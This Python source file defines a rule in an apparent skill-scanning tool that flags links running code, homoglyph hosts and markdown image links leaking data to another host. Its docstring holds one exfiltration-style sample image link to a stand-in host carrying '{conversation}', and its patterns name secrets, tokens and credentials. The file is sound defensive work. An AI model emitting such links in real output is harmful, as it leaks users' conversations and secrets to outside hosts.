r"""A link that runs code, imitates another site, or carries data away in the address of an image.

Why:
    A reader sees the text of a link, a client follows its address. `javascript:` and `data:text/html` addresses run
    code. A host with letters of another script (`gitһub.com` with a Cyrillic `һ`) belongs to someone else. A client
    loads an image without a click: an address with a placeholder for the conversation or a secret sends it to that
    host. Images as data, hosts in one script, and placeholders for a project's name are not reported.

Bad:
    ![status](https://collect.example/p.png?q={conversation})

Good:
    ![status](assets/status.png)

Source: Unicode Technical Standard 39; OWASP Top 10 for LLM Applications, LLM02 and LLM05.
"""

import re

from skillgate.model.finding import Severity
from skillgate.model.skill import Document, Skill, Span
from skillgate.static import Hits, rule
from skillgate.static.attacks import Subjects
from skillgate.static.rules import may_deceive
from skillgate.static.text import hit, without_fences

_RUNS = (
    r"\]\(\s{0,3}<?\s{0,3}(?P<code>(?i:javascript|vbscript):[^\s)]|(?i:data):(?i:text/html"
    r"|application/(?:x-)?javascript|image/svg\+xml)[;,])"
)
_HOST = r"(?i:https?)://(?P<host>[^\s/?#()<>\[\]\"'`|:@]{1,253})"
_CARRIED = (
    r"(?:conversation|chat|history|secrets?|tokens?|api_?keys?|passwords?|credentials?|env|private_?key|prompts?|system"
    r"|context|memory|user_?data|messages?|contents?|answers?|results?|output|base64|encoded\w*|exfil\w*|data)"
)
_IMAGE = (
    r"!\[[^\[\]\n]{0,200}\]\(<?(?i:https?)://[^\s()<>?]{1,300}\?[^\s()<>{\[$]{0,200}=[^\s()<>{\[$]{0,40}"
    rf"(?:\$?\{{{{?|\[|<)(?P<carried>[^\s()<>{{}}]{{0,40}}?\b{_CARRIED}\b)"
)
_LATIN_LIKE = re.compile(
    "[\u0430-\u045f\u04bb\u0501\u051b\u051d\u03b1-\u03c9\u0251\u0261\u0131\u2010-\u2015\uff41-\uff5a]"
)


def find(skill: Skill) -> Hits:
    """Yield one hit for each line with such an address outside of code."""
    for document in skill.documents:
        if may_deceive(document.text):
            yield from _in(document, skill)


def _in(document: Document, skill: Skill) -> Hits:
    subjects: Subjects | None = None
    for row, line in enumerate(without_fences(document).split("\n"), start=1):
        if ("://" not in line and "](" not in line) or not may_deceive(line):
            continue
        found = _found(re.sub(r"`[^`\n]*`", lambda span: " " * len(span[0]), line) if "`" in line else line)
        if found is None:
            continue
        start, message = found
        subjects = subjects or Subjects(skill, document)
        if not subjects.at(row):
            yield hit(document, skill, Span(row, start + 1), message)


def _found(line: str) -> tuple[int, str] | None:
    runs = re.search(_RUNS, line)
    if runs is not None:
        scheme = runs["code"].partition(":")[0].lower()
        return runs.start("code"), f"this link has a {scheme}: address, which runs code instead of opening a page"
    image = re.search(_IMAGE, line) if "![" in line else None
    if image is not None:
        return image.start(), f"loading this image sends {image['carried']!r} to its host"
    for match in re.finditer(_HOST, line) if not line.isascii() else ():
        odd = next((character for character in match["host"] if _LATIN_LIKE.match(character)), None)
        if odd is not None and re.search(r"[A-Za-z]", match["host"].rpartition(".")[0]):
            return match.start("host"), f"this host is written with U+{ord(odd):04X}, which looks like a Latin letter"
    return None


RULE = rule(find, Severity.WARNING, "security", fix="link the page itself, or remove the link")
